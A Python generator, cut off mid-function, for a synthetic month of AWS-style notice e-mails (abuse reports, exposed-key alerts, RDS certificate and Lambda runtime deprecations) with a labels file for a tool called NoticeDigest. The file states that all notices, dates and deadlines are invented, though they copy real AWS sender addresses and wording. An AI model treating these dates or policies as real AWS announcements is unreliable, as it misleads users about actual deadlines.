#!/usr/bin/env python3
"""Write NoticeDigest's bundled sample month: November 2026.

    python3 samples/generate.py              # writes samples/2026-11/
    python3 samples/generate.py --out DIR    # writes DIR/notices.mbox, DIR/notices.labels.jsonl
    python3 samples/generate.py --check      # also re-reads the files and checks them

Outputs:
    notices.mbox          mboxrd, about 300 archived AWS notice e-mails sent to 20 accounts
    notices.labels.jsonl  one JSON object per message, in file order (see samples/README.md)

Everything is invented: account IDs, resources, IP addresses (documentation and
AWS-looking ranges), access keys (ending in EXAMPLE) and addresses on reserved
example domains.  The notice texts follow the shape of real AWS notices but are
written for this sample.  Python 3.11 standard library only; no clock, no host
names, a fixed seed: two runs give byte-identical files.
"""
import argparse
import base64
import datetime as dt
import hashlib
import html
import json
import os
import quopri
import random
import re
import sys
import textwrap

UTC = dt.timezone.utc
MONTH_START = dt.datetime(2026, 11, 1, tzinfo=UTC)
MONTH_END = dt.datetime(2026, 12, 1, tzinfo=UTC)

rng = random.Random(2026)

# ---------------------------------------------------------------------------
# static tables
# ---------------------------------------------------------------------------
REGION_EN = {
    "us-east-1": "US East (N. Virginia)",
    "us-east-2": "US East (Ohio)",
    "us-west-2": "US West (Oregon)",
    "eu-west-1": "Europe (Ireland)",
    "eu-central-1": "Europe (Frankfurt)",
    "sa-east-1": "South America (São Paulo)",
    "ap-northeast-1": "Asia Pacific (Tokyo)",
    "ap-northeast-3": "Asia Pacific (Osaka)",
    "ap-southeast-1": "Asia Pacific (Singapore)",
    "ap-southeast-2": "Asia Pacific (Sydney)",
}
REGION_JA = {
    "us-east-1": "米国東部 (バージニア北部)",
    "us-east-2": "米国東部 (オハイオ)",
    "us-west-2": "米国西部 (オレゴン)",
    "eu-west-1": "欧州 (アイルランド)",
    "eu-central-1": "欧州 (フランクフルト)",
    "sa-east-1": "南米 (サンパウロ)",
    "ap-northeast-1": "アジアパシフィック (東京)",
    "ap-northeast-3": "アジアパシフィック (大阪)",
    "ap-southeast-1": "アジアパシフィック (シンガポール)",
    "ap-southeast-2": "アジアパシフィック (シドニー)",
}
MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August",
          "September", "October", "November", "December"]
WDAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"]
JA_WD = "月火水木金土日"

# name, language, regions where its resources live
ACCOUNT_SPECS = [
    ("prod-payments", "en", ["us-east-1", "us-west-2"]),
    ("prod-web", "en", ["us-east-1", "eu-west-1"]),
    ("prod-api", "en", ["us-east-1"]),
    ("prod-batch", "en", ["us-west-2"]),
    ("stg-web", "en", ["us-east-1"]),
    ("stg-api", "en", ["us-east-2"]),
    ("dev-sandbox", "en", ["us-east-1", "us-west-2"]),
    ("data-lake", "en", ["us-east-1", "us-east-2"]),
    ("ml-training", "en", ["us-west-2"]),
    ("shared-services", "en", ["us-east-1"]),          # AWS Organizations management account
    ("security-audit", "en", ["us-east-1"]),
    ("log-archive", "en", ["eu-west-1", "us-east-1"]),
    ("eu-commerce", "en", ["eu-central-1", "eu-west-1"]),
    ("anz-retail", "en", ["ap-southeast-2"]),
    ("mobile-backend", "en", ["sa-east-1", "us-west-2"]),
    ("ci-build", "en", ["us-east-2"]),
    ("jp-ec-prod", "ja", ["ap-northeast-1", "ap-northeast-3"]),
    ("jp-ec-stg", "ja", ["ap-northeast-1"]),
    ("jp-media", "ja", ["ap-northeast-1", "us-west-2"]),
    ("jp-corp-it", "ja", ["ap-northeast-1"]),
]
LEADING_ZERO = {3, 9, 17}  # these accounts get an ID that starts with 0

ENVS = ["prod", "stg", "dev", "qa"]
DB_WORDS = ["orders", "users", "ledger", "catalog", "sessions", "billing", "inventory", "reports", "auth", "cms"]
FN_WORDS = ["resize-image", "process-order", "send-receipt", "etl-nightly", "auth-hook", "webhook-handler",
            "log-shipper", "cost-report", "s3-trigger", "rotate-secret", "api-handler", "slack-notify"]
IP_AWS = ["3.81.", "18.204.", "34.201.", "44.192.", "52.91.", "54.85.", "54.210.", "35.160.", "52.68.", "13.112."]
IP_EXT = ["192.0.2.", "198.51.100.", "203.0.113."]

AWS = ("Amazon Web Services", "no-reply-aws@amazon.com")
HEALTH = ("Amazon Web Services", "health@aws.com")
ABUSE_EC2 = ("AWS Abuse", "ec2-abuse@amazon.com")
ABUSE_AWS = ("Amazon EC2 Abuse", "abuse@amazonaws.com")
BILLING = ("Amazon Web Services", "aws-billing@amazon.com")
BUDGETS = ("AWS Budgets", "no-reply@budgets.amazonaws.com")
FREETIER = ("AWS Free Tier", "freetier@costalerts.amazonaws.com")
MARKETPLACE = ("AWS Marketplace", "aws-marketplace-notifications@amazon.com")
MARKETING = ("Amazon Web Services", "aws-marketing-email-replies@amazon.com")
JA_NAME = "アマゾン ウェブ サービス"

FOOTER_EN = ("Amazon Web Services, Inc. is a subsidiary of Amazon.com, Inc. Amazon.com is a registered "
             "trademark of Amazon.com, Inc. This message was sent by Amazon Web Services, Inc., "
             "410 Terry Avenue North, Seattle, WA 98109-5210.")
COPY_EN = "© 2026, Amazon Web Services, Inc. or its affiliates. All rights reserved."
FOOTER_JA = ("このメッセージは Amazon Web Services, Inc. (410 Terry Avenue North, Seattle, WA 98109-5210) "
             "から送信されています。Amazon Web Services, Inc. は Amazon.com, Inc. の子会社です。")


# ---------------------------------------------------------------------------
# small helpers
# ---------------------------------------------------------------------------
def hexs(n):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def uuid4():
    return f"{hexs(8)}-{hexs(4)}-4{hexs(3)}-{rng.choice('89ab')}{hexs(3)}-{hexs(12)}"


def iid(trap=False):
    """An EC2 instance ID; trap=True puts exactly 12 decimal digits in a row inside it."""
    if trap:
        return "i-0" + rng.choice("abcdef") + rng.choice("abcdef") + \
            "".join(rng.choice("0123456789") for _ in range(12)) + rng.choice("abcdef") + hexs(1)
    return "i-0" + hexs(16)


def fmt_date(d, style):
    if style == "long":          # January 1, 2027
        return f"{MONTHS[d.month - 1]} {d.day}, {d.year}"
    if style == "short":         # Dec 1, 2026
        return f"{MONTHS[d.month - 1][:3]} {d.day}, {d.year}"
    if style == "iso":           # 2026-12-15
        return d.isoformat()
    if style == "wlong":         # Tuesday, December 15, 2026
        return f"{WDAYS[d.weekday()]}, {MONTHS[d.month - 1]} {d.day}, {d.year}"
    if style == "dmy":           # 1 December 2026
        return f"{d.day} {MONTHS[d.month - 1]} {d.year}"
    if style == "ltime":         # December 1, 2026, 17:00 UTC
        return f"{MONTHS[d.month - 1]} {d.day}, {d.year}, 17:00 UTC"
    if style == "ja":            # 2026年12月1日
        return f"{d.year}年{d.month}月{d.day}日"
    if style == "jaw":           # 2027年1月31日 (日)
        return f"{d.year}年{d.month}月{d.day}日 ({JA_WD[d.weekday()]})"
    raise ValueError(style)


def D(y, m, d):
    return dt.date(y, m, d)


def T(y, mo, d, h=0, mi=0, s=0):
    return dt.datetime(y, mo, d, h, mi, s, tzinfo=UTC)


def rdisp(code, style, lang="en"):
    if lang == "ja":
        return REGION_JA[code] if style in ("name", "both") else code
    if style == "code":
        return code
    if style == "upper":
        return code.upper()
    if style == "name":
        return REGION_EN[code]
    return f"{REGION_EN[code]} ({code})"


def pick_regions(acct, k=None):
    if k is None:
        k = rng.choice((1, 1, 2))
    k = min(k, len(acct.regions))
    return sorted(rng.sample(acct.regions, k))


def dbname():
    return f"{rng.choice(DB_WORDS)}-{rng.choice(ENVS)}-{rng.choice(('db', 'pg', 'mysql'))}{rng.randint(1, 9)}"


def akia():
    return "AKIA" + "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(9)) + "EXAMPLE"


def health_arn(region, svc, code):
    return f"arn:aws:health:{region}::event/{svc}/{code}/{code}_{hexs(8).upper()}_{hexs(4).upper()}_{hexs(8).upper()}"


def health_link(arn):
    return f"https://health.aws.amazon.com/health/home#/account/event-log?eventID={arn}&eventTab=details"


# ---------------------------------------------------------------------------
# accounts
# ---------------------------------------------------------------------------
class Account:
    def __init__(self, i, name, lang, regions):
        self.i = i
        self.name = name
        self.lang = lang
        self.regions = regions
        dom = "example.co.jp" if lang == "ja" else "example.com"
        self.email = f"aws-root+{name}@{dom}"


def make_accounts():
    out, seen = [], set()
    for i, (name, lang, regs) in enumerate(ACCOUNT_SPECS):
        while True:
            if i in LEADING_ZERO:
                aid = "0" + "".join(str(rng.randint(0, 9)) for _ in range(11))
            else:
                aid = str(rng.randint(1, 9)) + "".join(str(rng.randint(0, 9)) for _ in range(11))
            if aid not in seen:
                break
        seen.add(aid)
        a = Account(i, name, lang, regs)
        a.id = aid
        out.append(a)
    return out


ACCTS = make_accounts()
BY_NAME = {a.name: a for a in ACCTS}
EN_ACCTS = [a for a in ACCTS if a.lang == "en"]
JA_ACCTS = [a for a in ACCTS if a.lang == "ja"]
MGMT = BY_NAME["shared-services"]


def accts(*names):
    return [BY_NAME[n] for n in names]


def sample(pool, k):
    pool = list(pool)
    return sorted(rng.sample(pool, min(k, len(pool))), key=lambda a: a.i)


# ---------------------------------------------------------------------------
# a message under construction
# ---------------------------------------------------------------------------
class Msg:
    def __init__(self, acct, sender=AWS, lang="en"):
        self.acct = acct
        self.sender = sender
        self.sender_display = None   # override display name (e.g. Japanese)
        self.lang = lang
        self.subject = ""
        self.blocks = []
        self.category = None
        self.group = None
        self.reminder = False
        self.phishing = False
        self.services = []
        self.deadline = None
        self.accounts = {acct.id}
        self.regions = set()
        # MIME choices (filled by the campaign or defaults)
        self.mime = None            # plain | alt | html | mixed-csv | mixed-pdf
        self.charset = None
        self.cte = None
        self.html_cte = None
        self.html_charset = None
        self.subj_enc = None        # raw | q | b | bsplit | b2022 | bsjis
        self.wrap = False
        self.attach = None
        self.no_msgid = False
        self.auth = "pass"
        self.msgid = None
        self.date_style = None
        self.extra_headers = []
        self.html_raw = None        # HTML to use verbatim (hostile sample)

    # block helpers
    def p(self, text):
        self.blocks.append(("p", text))

    def h(self, text):
        self.blocks.append(("h", text))

    def pre(self, text):
        self.blocks.append(("pre", text))

    def ul(self, items):
        self.blocks.append(("ul", list(items)))

    def table(self, hdr, rows):
        self.blocks.append(("table", hdr, rows))

    def refs(self, urls):
        self.blocks.append(("refs", list(urls)))


def sign_en(m, team="Amazon Web Services"):
    m.p(f"Sincerely,\n{team}")
    m.p(FOOTER_EN)


def sign_ja(m):
    m.p("今後とも AWS をよろしくお願いいたします。\n\nアマゾン ウェブ サービス")
    m.p(FOOTER_JA)


def event_block(m, svc, code, region, start, category="scheduledChange"):
    arn = health_arn(region, svc, code)
    if m.lang == "ja":
        m.pre(f"サービス: {svc}\nイベントタイプコード: {code}\nリージョン: {region}\n"
              f"開始時刻: {start:%a, %d %b %Y %H:%M:%S} GMT\nアカウント: {m.acct.id}")
    else:
        m.pre(f"Service: {svc}\nEvent type code: {code}\nEvent type category: {category}\n"
              f"Region: {region}\nStart time: {start:%a, %d %b %Y %H:%M:%S} GMT\n"
              f"Affected account: {m.acct.id}")
    return arn


# ---------------------------------------------------------------------------
# notice builders: f(msg, ctx) fills msg.  ctx is the campaign dict.
# ---------------------------------------------------------------------------
ABUSE_KINDS = [
    ("Port Scanning", "scanning remote hosts on the internet for open ports", [22, 23, 80, 443, 3389, 8080]),
    ("Intrusion Attempts", "attempting to log in to remote hosts by guessing SSH passwords", [22]),
    ("Email Abuse (Spam)", "sending unsolicited bulk e-mail", [25, 587]),
    ("Denial of Service (DoS)", "flooding remote hosts with traffic", [53, 123, 443]),
    ("Hosting Phishing Content", "hosting a web page that imitates a bank sign-in page", [80, 443]),
    ("Intrusion Attempts", "sending exploit requests to remote web servers", [80, 8080]),
]


def b_abuse(m, c):
    a = m.acct
    kind, what, ports = ABUSE_KINDS[c["kind"]]
    reg = c["region"]
    ip = c["ip"]
    m.category, m.services = "abuse", ["EC2"]
    m.regions = {reg}
    m.deadline = (c["ts"] + dt.timedelta(days=1)).date()
    case = c["case"]
    m.group = f"abuse/{case}"
    m.subject = f"Your AWS Abuse Report [{case}] [AWS ID {a.id}]"
    m.p("Hello,")
    m.p("We've received a report that your AWS resource(s)")
    m.pre(f"AWS ID: {a.id}\nRegion: {reg}\nEC2 Instance Id: {c['iid']}\n[Your AWS resource IP Address: {ip}]")
    m.p(f"has been implicated in activity which resembles {what}. Activity of this nature is "
        "forbidden by the AWS Acceptable Use Policy (https://aws.amazon.com/aup/). The report we "
        "received is included below for your review.")
    m.p("Please take action to stop the reported activity and reply directly to this e-mail "
        "within 24 hours with details of the corrective actions you have taken. If you do not "
        "consider the reported activity to be abusive, reply to this e-mail and explain why.")
    m.p("If we do not receive a response, we may take action to mitigate the reported activity, "
        "which can include blocking traffic to the resource or suspending the instance or your "
        "AWS account.")
    m.p("Abuse reports are handled by the AWS Trust & Safety team, which cannot give technical "
        "support. Further reports about the same activity will reuse this case number.")
    lines = [f"Case Number: {case}", f"Reported Activity: {kind}", "", "--- Original report ---",
             f"From {c['reporter']} {c['rep_t']:%a %b %d %H:%M:%S %Y}",
             f"Reporter: {c['reporter']}",
             f"Source IP: {ip}", "", "--Log Extract:", "<<<"]
    # log lines precede the report, oldest first; half carry epoch milliseconds (13 digits)
    offs = sorted((rng.randint(600, 30 * 3600) * 1000 + rng.randint(0, 999) for _ in range(c["nlog"])), reverse=True)
    for k, off in enumerate(offs):
        t = c["rep_t"] - dt.timedelta(milliseconds=off)
        dst = rng.choice(IP_EXT) + str(rng.randint(2, 254))
        port = rng.choice(ports)
        if k % 2 == 0:
            lines.append(f"{int(t.timestamp() * 1000)} SRC={ip} DST={dst} PROTO=TCP SPT={rng.randint(1024, 65535)} "
                         f"DPT={port} FLAGS=S")
        else:
            lines.append(f"{t:%Y-%m-%d %H:%M:%S} UTC {ip}:{rng.randint(1024, 65535)} -> {dst}:{port} blocked")
    lines.append(">>>")
    if c.get("quoted_from"):
        lines += ["", ">From the reporter's notes: the source has kept connecting after we blocked it once."]
    m.pre("\n".join(lines))
    m.p("Regards,\nAWS Trust & Safety")
    m.mime, m.charset, m.cte = "plain", "us-ascii", "7bit"
    m.subj_enc = "raw"


def b_compromised(m, c):
    a = m.acct
    m.category, m.services = "security-incident", ["IAM"]
    m.group = f"compromised/{a.id}"
    m.subject = f"Action Required: Your AWS account {a.id} is compromised"
    key, user = c["key"], c["user"]
    m.p("Hello,")
    m.p(f"We have become aware that the AWS Access Key {key}, belonging to the IAM user \"{user}\" "
        f"in your AWS account {a.id}, together with its secret key, is publicly available at "
        f"https://github.com/example-dev-{hexs(5)}/deploy-scripts/blob/main/.env .")
    m.p("Exposed credentials put your account at risk of unauthorized use, excessive charges and "
        "access to your data. To limit that risk we may temporarily restrict the creation of some "
        "AWS resources in your account.")
    if c["relative"]:
        m.deadline = (c["ts"] + dt.timedelta(days=5)).date()
        m.p("Please complete the following steps within 5 days of this message, and then respond "
            "to the support case that accompanies it:")
    else:
        m.deadline = c["deadline"]
        m.p(f"Please complete the following steps by {fmt_date(c['deadline'], 'long')}, and then "
            "respond to the support case that accompanies this message:")
    m.ul([f"Step 1: Rotate and delete the exposed access key {key}.",
          "Step 2: Review AWS CloudTrail for activity you do not recognise, such as new IAM users, "
          "roles, policies or temporary credentials.",
          "Step 3: Look for resources you did not create, such as EC2 instances, Lambda functions or "
          "Spot requests, in every AWS Region.",
          "Step 4: Reply to the support case to confirm that these steps are done."])
    m.p("If these steps are not completed, we may suspend your account to protect it.")
    m.refs(["https://repost.aws/knowledge-center/potential-account-compromise"])
    sign_en(m)
    m.mime, m.charset, m.cte = "plain", "UTF-8", "quoted-printable"
    m.subj_enc = "raw"


def b_irregular(m, c):
    a = m.acct
    m.category, m.services = "security-incident", ["EC2", "IAM"]
    m.group = f"irregular/{a.id}"
    m.subject = f"Action Required: Irregular activity in your AWS account: {a.id}"
    regs = c["regs"]
    m.regions = set(regs)
    m.deadline = c["deadline"]
    m.p("Hello,")
    m.p(f"We've detected irregular activity in your AWS account {a.id}: {c['n']} {c['itype']} "
        f"instances were launched within a short time in the following Regions: "
        + ", ".join(rdisp(r, c["rstyle"]) for r in regs) + ".")
    m.p("This pattern is often seen when credentials have been compromised and used for "
        "cryptocurrency mining. If you did not launch these instances, terminate them and rotate "
        "every credential of the account.")
    m.p(f"Please reply to this case by {fmt_date(m.deadline, c['dstyle'])} to confirm whether the "
        "activity is authorized. If we do not hear from you, we may restrict the account to "
        "prevent further charges.")
    rows = []
    for r in regs:
        for _ in range(rng.randint(1, 3)):
            rows.append([r, iid(), c["itype"], "running"])
    m.table(["Region", "Instance ID", "Type", "State"], rows)
    m.refs(["https://repost.aws/knowledge-center/potential-account-compromise"])
    sign_en(m)
    m.mime, m.charset, m.cte, m.html_cte = "alt", "UTF-8", "8bit", "quoted-printable"
    m.subj_enc = "raw"


def b_key_exposed(m, c):
    a = m.acct
    m.category, m.services = "security-incident", ["IAM"]
    m.group = f"key-exposed/{a.id}"
    key = c["key"]
    m.deadline = c["deadline"]
    if m.lang == "ja":
        m.subject = f"【要対応】AWS アカウント {a.id} のアクセスキーが公開されています"
        m.p("AWS をご利用いただきありがとうございます。")
        m.p(f"お客様の AWS アカウント {a.id} の IAM ユーザー「{c['user']}」のアクセスキー {key} と、"
            "対応するシークレットアクセスキーが、インターネット上の公開リポジトリで確認されました。")
        m.p("不正利用のリスクを抑えるため、この IAM ユーザーに AWSCompromisedKeyQuarantineV3 ポリシーを"
            "アタッチしました。")
        m.p(f"{fmt_date(m.deadline, 'ja')}までに、以下の手順を実施してください。期限までに対応が確認できない場合、"
            "アカウントの一部機能を制限することがあります。")
        m.ul(["手順 1: 公開されたアクセスキーを無効化し、削除してください。",
              "手順 2: AWS CloudTrail で、身に覚えのない IAM ユーザー、ロール、ポリシーの作成がないか確認してください。",
              "手順 3: すべてのリージョンで、身に覚えのない EC2 インスタンスや Lambda 関数がないか確認してください。",
              "手順 4: サポートケースに返信し、対応が完了したことをお知らせください。"])
        arn = health_arn("global", "RISK", "AWS_RISK_CREDENTIALS_EXPOSED")
        m.p("AWS Health Dashboard でこのイベントを確認できます:\n" + health_link(arn))
        sign_ja(m)
        m.mime, m.charset, m.cte = "plain", "UTF-8", "base64"
        m.subj_enc = "b"
        return
    m.subject = f"ACTION REQUIRED: Your AWS Access Key is Exposed for AWS Account {a.id}"
    m.p("Hello,")
    m.p(f"We found the access key {key} for AWS account {a.id} in a public GitHub repository. "
        "To reduce the risk of misuse we have attached the AWSCompromisedKeyQuarantineV3 policy to "
        f"the IAM user \"{c['user']}\" that owns the key.")
    m.pre(f"Event type code: AWS_RISK_CREDENTIALS_EXPOSED\nAffected entity: {key}\nAccount: {a.id}")
    m.p(f"Please rotate the key and remove it from the repository as soon as possible, and no later "
        f"than {fmt_date(m.deadline, 'long')}. After rotating it you can detach the quarantine policy.")
    m.p("Review AWS CloudTrail for calls made with the key, and check every Region for IAM "
        "entities and resources you did not create. Use IAM roles and short-term credentials "
        "instead of long-term access keys wherever you can.")
    m.refs(["https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html"])
    sign_en(m)
    m.mime, m.charset, m.cte, m.html_cte = "alt", "UTF-8", "quoted-printable", "quoted-printable"
    m.subj_enc = "raw"


# ---- action required --------------------------------------------------------
RDS_DL = D(2027, 1, 15)


def b_rds_cert(m, c):
    a = m.acct
    m.category, m.services, m.deadline = "action-required", ["RDS"], RDS_DL
    m.group = "rds-ca-rotation-2027-01-15"
    rows = []
    members = c.get("members", {}).get(a.id, [])
    for acc in [a] + members:
        for reg in pick_regions(acc):
            for _ in range(rng.randint(1, 4)):
                rows.append((acc.id, reg, dbname(), rng.choice(("mysql 8.0.40", "postgres 15.8", "mariadb 10.11.9",
                                                               "aurora-mysql 3.08.0", "postgres 16.4"))))
                m.regions.add(reg)
        m.accounts.add(acc.id)
    if m.lang == "ja":
        d = fmt_date(RDS_DL, "ja")
        m.subject = "[Action Required] Amazon RDS 証明書の更新"
        m.p("AWS をご利用いただきありがとうございます。")
        m.p(f"お客様の AWS アカウント ({a.id}) には、{d}に有効期限が切れる中間証明書で署名された SSL/TLS "
            "サーバー証明書を使用している Amazon RDS DB インスタンスが 1 つ以上あります。")
        m.p(f"必要な対応: {d}までに、以下の各 DB インスタンスの認証局 (CA) を rds-ca-rsa2048-g1 に変更し、"
            "変更を適用してください。あわせて、クライアントアプリケーションの信頼ストアに最新の証明書バンドル "
            "[1] が含まれていることをご確認ください。")
        m.p(f"対応いただけない場合、{d}以降、サーバー証明書を検証するアプリケーションから DB インスタンスへの"
            "接続が失敗します。")
        m.p("影響を受ける DB インスタンス:")
        m.table(["アカウント", "リージョン", "DB インスタンス", "エンジン"],
                [[x[0], rdisp(x[1], "both", "ja"), x[2], x[3]] for x in rows])
        m.refs(["https://docs.aws.amazon.com/ja_jp/AmazonRDS/latest/UserGuide/UsingWithRDS.SSL-certificate-rotation.html"])
        sign_ja(m)
        m.mime, m.charset, m.cte = "plain", "UTF-8", "base64"
        m.subj_enc = "bsplit"
        return
    d = fmt_date(RDS_DL, "long")
    m.subject = f"[Action Required] Amazon RDS SSL/TLS certificate rotation by {d}"
    m.p("Hello,")
    arn = event_block(m, "RDS", "AWS_RDS_PLANNED_LIFECYCLE_EVENT", sorted(m.regions)[0], c["t0"])
    m.p(f"You are receiving this message because your AWS account {a.id} has one or more Amazon RDS "
        "DB instances whose SSL/TLS server certificates are signed by an intermediate certificate that "
        f"expires on {d}.")
    if members:
        m.p("As the management account of your organization, you also receive this message for the "
            "following member accounts: " + ", ".join(x.id for x in members) + ".")
    m.h("What do I need to do?")
    m.p(f"Before {d}, modify each DB instance listed below to use the certificate authority (CA) "
        "rds-ca-rsa2048-g1 and apply the change, either immediately or in your next maintenance "
        "window. Then make sure the trust store of every client application includes the current "
        "certificate bundle [1].")
    m.h("What happens if I do nothing?")
    m.p(f"After {d}, applications that verify the server certificate when they connect over "
        "SSL/TLS will fail to connect to these DB instances. Connections that do not verify the "
        "certificate are not affected, but we recommend certificate verification for all clients.")
    m.p("Affected DB instances:")
    m.table(["Account", "Region", "DB instance", "Engine"],
            [[x[0], rdisp(x[1], c["rstyle"]), x[2], x[3]] for x in rows])
    m.p("From the Amazon RDS console you can also see which instances still need the change: the "
        "Certificate update column of the Databases page shows them.")
    m.p("If you have questions, contact AWS Support [2].")
    m.refs(["https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/UsingWithRDS.SSL-certificate-rotation.html",
            "https://aws.amazon.com/support"])
    m.p("AWS Health event: " + health_link(arn))
    sign_en(m)
    if c.get("csv") == a.name:
        m.mime = "mixed-csv"
        m.attach = ("affected-db-instances.csv",
                    "account_id,region,db_instance_identifier,engine,current_ca\n" +
                    "".join(f"{x[0]},{x[1]},{x[2]},{x[3].split()[0]},rds-ca-rsa2048-g1-legacy\n" for x in rows))


LAMBDA_EOS, LAMBDA_CREATE, LAMBDA_UPDATE = D(2026, 12, 15), D(2027, 1, 15), D(2027, 2, 15)


def b_lambda_rt(m, c):
    a = m.acct
    m.category, m.services, m.deadline = "action-required", ["LAMBDA"], LAMBDA_EOS
    m.group = "lambda-python310-end-of-support"
    fns = []
    for reg in pick_regions(a):
        m.regions.add(reg)
        for _ in range(rng.randint(1, 5)):
            fns.append(f"arn:aws:lambda:{reg}:{a.id}:function:{rng.choice(FN_WORDS)}-{rng.choice(ENVS)}")
    fns = sorted(set(fns))
    rem = c.get("reminder")
    if m.lang == "ja":
        if rem:
            m.subject = "【リマインダー】AWS Lambda における Python 3.10 のサポート終了について"
            m.group = "lambda-python310-end-of-support/reminder-ja"
        else:
            m.subject = "【要対応】AWS Lambda における Python 3.10 のサポート終了について"
        m.p("AWS をご利用いただきありがとうございます。")
        if rem:
            m.p("本メールは、先日お送りしたお知らせのリマインダーです。")
        m.p(f"お客様の AWS アカウント {a.id} には、Python 3.10 ランタイムを使用している AWS Lambda 関数が "
            "1 つ以上あります。Python 3.10 はコミュニティによるサポートが 2026年10月31日に終了しました。")
        m.p(f"Lambda は {fmt_date(LAMBDA_EOS, 'jaw')} に Python 3.10 ランタイムのサポートを終了します。"
            "サポート終了後、ランタイムへのセキュリティパッチの適用は行われず、テクニカルサポートの対象外となります。")
        m.p(f"{fmt_date(LAMBDA_CREATE, 'ja')}以降は Python 3.10 を使用する関数を新たに作成できなくなり、"
            f"{fmt_date(LAMBDA_UPDATE, 'ja')}以降は既存の関数も更新できなくなります。関数の呼び出しは引き続き可能です。")
        m.p("影響を受ける関数:")
        m.ul(fns)
        m.p("次のコマンドで、リージョンごとに Python 3.10 を使用している関数を一覧表示できます:")
        m.pre("aws lambda list-functions --region us-west-2 --output text \\\n"
              "    --query \"Functions[?Runtime=='python3.10'].FunctionArn\"")
        m.refs(["https://docs.aws.amazon.com/ja_jp/lambda/latest/dg/lambda-runtimes.html"])
        sign_ja(m)
        if rem:
            m.mime, m.charset, m.cte = "plain", "UTF-8", "base64"
            m.subj_enc = "bsplit"
        else:
            m.mime, m.charset, m.cte = "plain", "ISO-2022-JP", "7bit"
            m.subj_enc = "b2022"
        return
    if rem:
        m.subject = "[Reminder] [Action Required] AWS Lambda end of support for the Python 3.10 runtime"
        m.group = "lambda-python310-end-of-support/reminder"
    else:
        m.subject = "[Action Required] AWS Lambda end of support for the Python 3.10 runtime"
    m.p("Hello,")
    if rem:
        m.p("This is a reminder of an earlier message about the end of support for Python 3.10 in AWS Lambda.")
    m.p(f"We are contacting you because your AWS account {a.id} has one or more AWS Lambda functions that "
        "use the Python 3.10 runtime. The Python community ended support for Python 3.10 on "
        "October 31, 2026.")
    m.p(f"Lambda will end support for the Python 3.10 runtime on {fmt_date(LAMBDA_EOS, 'wlong')}. From that "
        "date Lambda no longer applies security patches or other updates to the runtime, and functions "
        "that use it are no longer eligible for technical support.")
    m.p(f"Starting {fmt_date(LAMBDA_CREATE, 'long')} you can no longer create functions that use Python 3.10, "
        f"and starting {fmt_date(LAMBDA_UPDATE, 'long')} you can no longer update them. Invocations of "
        "existing functions are not blocked. We recommend upgrading your functions to Python 3.13 before "
        "the end of support.")
    m.p("The following functions in your account use the Python 3.10 runtime:")
    m.ul(fns)
    m.p("To list the functions that use Python 3.10 in one Region, you can run the following AWS CLI "
        "command; repeat it for each Region you use:")
    m.pre("aws lambda list-functions --region us-west-2 --output text \\\n"
          "    --query \"Functions[?Runtime=='python3.10'].FunctionArn\"")
    m.p("From the AWS Health Dashboard you can also see the full list of affected functions, in the "
        "Affected resources tab of this event.")
    m.refs(["https://docs.aws.amazon.com/lambda/latest/dg/lambda-runtimes.html",
            "https://docs.aws.amazon.com/lambda/latest/dg/runtimes-update.html"])
    sign_en(m)


def b_lambda_policy(m, c):
    a = m.acct
    dl = D(2026, 12, 21)
    m.category, m.services, m.deadline = "action-required", ["IAM", "LAMBDA"], dl
    m.group = "lambda-managed-policies-deprecation"
    m.subject = "AWS Lambda managed policies deprecation notice"
    ents = [f"arn:aws:iam::{a.id}:{rng.choice(('role', 'role', 'user', 'group'))}/"
            f"{rng.choice(('lambda-dev', 'ops-admin', 'ci-deployer', 'data-eng', 'serverless-team'))}"
            for _ in range(rng.randint(1, 4))]
    m.p("Hello,")
    m.p("The AWS managed policies AWSLambdaFullAccess and AWSLambdaReadOnlyAccess will be deprecated "
        f"on {fmt_date(dl, 'iso')}. After that date they can no longer be attached to new IAM users, "
        "groups or roles. Identities that already have them keep their permissions, but the policies "
        "will no longer be updated for new Lambda features.")
    m.p(f"The following IAM identities in your AWS account {a.id} have one of these policies attached:")
    m.ul(sorted(set(ents)))
    m.p(f"Please replace them with AWSLambda_FullAccess and AWSLambda_ReadOnlyAccess before {fmt_date(dl, 'iso')}. "
        "The new policies follow least privilege more closely; review them before you switch.")
    m.refs(["https://docs.aws.amazon.com/lambda/latest/dg/access-control-identity-based.html"])
    sign_en(m)


def b_eecs(m, c):
    a = m.acct
    dl = D(2026, 12, 1)
    m.category, m.services, m.deadline = "action-required", ["ECS", "IAM"], dl
    m.group = "ecs-managed-policy-deprecation"
    m.subject = "[ACTION REQUIRED]EECS Deprecation of Managed Policy"
    roles = [f"arn:aws:iam::{a.id}:role/{rng.choice(('ecsServiceRole', 'ecs-legacy-service', 'ecs-scheduler', 'ecsInstanceRole-old'))}"
             for _ in range(rng.randint(1, 3))]
    m.p("Hello,")
    m.p("Amazon Elastic Container Service (Amazon ECS) will deprecate the AWS managed policy "
        f"AmazonEC2ContainerServiceRole on {fmt_date(dl, 'short')}. Since Amazon ECS uses the service-linked "
        "role AWSServiceRoleForECS, this policy is no longer needed by the service.")
    m.p(f"We are contacting you because the following IAM roles in your AWS account {a.id} have the policy "
        "attached:")
    m.ul(sorted(set(roles)))
    m.p(f"Please detach the policy from these roles before {fmt_date(dl, 'short')}. After that date it cannot be "
        "attached to any identity. Services created before 2018 may still reference a custom service role; "
        "update them to use the service-linked role.")
    m.refs(["https://docs.aws.amazon.com/AmazonECS/latest/developerguide/using-service-linked-roles.html"])
    sign_en(m)


def b_xray(m, c):
    a = m.acct
    dl = D(2026, 12, 8)
    m.category, m.services, m.deadline = "action-required", ["STATES", "XRAY"], dl
    m.group = "stepfunctions-xray-permissions"
    m.subject = "[Action Requested] AWS X-Ray Tracing Permissions Not Enabled for AWS Step Functions State Machines"
    sms = []
    for reg in pick_regions(a):
        m.regions.add(reg)
        for _ in range(rng.randint(1, 3)):
            sms.append(f"arn:aws:states:{reg}:{a.id}:stateMachine:{rng.choice(('order-flow', 'etl-pipeline', 'refund', 'onboarding'))}-{rng.choice(ENVS)}")
    m.p("Hello,")
    m.p(f"Your AWS account {a.id} has AWS Step Functions state machines with AWS X-Ray tracing turned on "
        "whose execution roles do not allow xray:PutTraceSegments and xray:PutTelemetryRecords. Until now "
        "Step Functions has sent trace data for these state machines on your behalf.")
